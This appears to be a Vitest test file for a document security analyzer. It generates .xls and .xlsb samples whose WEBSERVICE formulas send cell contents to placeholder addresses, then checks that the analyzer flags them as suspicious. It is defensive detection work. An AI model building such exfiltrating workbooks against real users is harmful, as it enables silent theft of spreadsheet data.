import { expect, it } from 'vitest'
import { makeCompoundFile } from '../formats/compound-sample.ts'
import { makeZip } from '../formats/zip-sample.ts'
import { reportOf } from '../kit/try.ts'
import { analyzer } from './analyzer.ts'

const little = (bytes: number, value: number) => {
  const out = Buffer.alloc(bytes)
  out.writeUIntLE(value, 0, bytes)
  return out
}
const record = (type: number, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts)
  return Buffer.concat([little(2, type), little(2, body.length), body])
}
/** The function that is not of the first version, the text, another operand, the call. */
const call = (text: Buffer, behind: Buffer) =>
  Buffer.concat([
    Buffer.from('230100000000', 'hex'),
    text,
    behind,
    Buffer.from(behind.length > 0 ? '084202ff00' : '4202ff00', 'hex'),
  ])

const name = '_xlfn.WEBSERVICE'
const cells = { nothing: [], cell: [0x44], cells: [0x25] } as const
type Uses = keyof typeof cells
const operand = (uses: Uses, size: { cell: number; cells: number }) =>
  uses === 'nothing' ? Buffer.alloc(0) : Buffer.from([...cells[uses], ...Buffer.alloc(size[uses])])

function xls(address: string, uses: Uses, isWide: boolean): Buffer {
  const text = Buffer.concat([
    Buffer.from([0x17, address.length, isWide ? 1 : 0]),
    Buffer.from(address, isWide ? 'utf16le' : 'latin1'),
  ])
  const formula = call(text, operand(uses, { cell: 4, cells: 8 }))
  return makeCompoundFile({
    Workbook: Buffer.concat([
      record(0x809, Buffer.from('0006050000000000', 'hex')),
      record(0x18, Buffer.alloc(14), Buffer.from([0]), Buffer.from(name)),
      record(0x06, Buffer.alloc(20), little(2, formula.length), formula),
      record(0x0a),
    ]),
  })
}

function xlsb(address: string, uses: Uses, before = 30): Buffer {
  const text = Buffer.concat([
    Buffer.from([0x17]),
    little(2, address.length),
    Buffer.from(address, 'utf16le'),
  ])
  return makeZip({
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.bin': Buffer.concat([Buffer.alloc(before), Buffer.from(name, 'utf16le')]),
    'xl/worksheets/sheet1.bin': Buffer.concat([
      Buffer.alloc(before),
      call(text, operand(uses, { cell: 6, cells: 12 })),
    ]),
  })
}

const forms: readonly (readonly [form: string, make: (address: string, uses: Uses) => Buffer])[] = [
  ['a.xls', (address, uses) => xls(address, uses, false)],
  ['wide.xls', (address, uses) => xls(address, uses, true)],
  ['a.xlsb', xlsb],
  ['odd.xlsb', (address, uses) => xlsb(address, uses, 31)],
]
const bare = 'http://203.0.113.9/?x='
const named = 'https://rates.example.org/api?currency='

it.each(
  forms.flatMap(([filename, make]) =>
    (
      [
        ['sends a cell in the clear', bare, 'cell', 'document.formula-sends', 'suspicious'],
        ['sends a range', named, 'cells', 'document.formula-sends', 'suspicious'],
        ['asks an address without a name', bare, 'nothing', 'document.external-query', undefined],
        ['asks a service for a cell', named, 'cell', 'document.formula-asks', 'info'],
      ] as const
    ).map(
      ([what, address, uses, id, verdict]) =>
        [filename, what, { file: make(address, uses), address, id, verdict }] as const,
    ),
  ),
)('%s: a formula that %s is found, with its address', async (filename, _, expected) => {
  const { file, address, id, verdict } = expected
  const { full } = await reportOf(analyzer, { dataType: 'file', file, filename })
  expect(full.findings).toContainEqual(
    expect.objectContaining({ id, parameters: expect.objectContaining({ address }) }),
  )
  if (verdict !== undefined) expect(full.verdict).toBe(verdict)
})
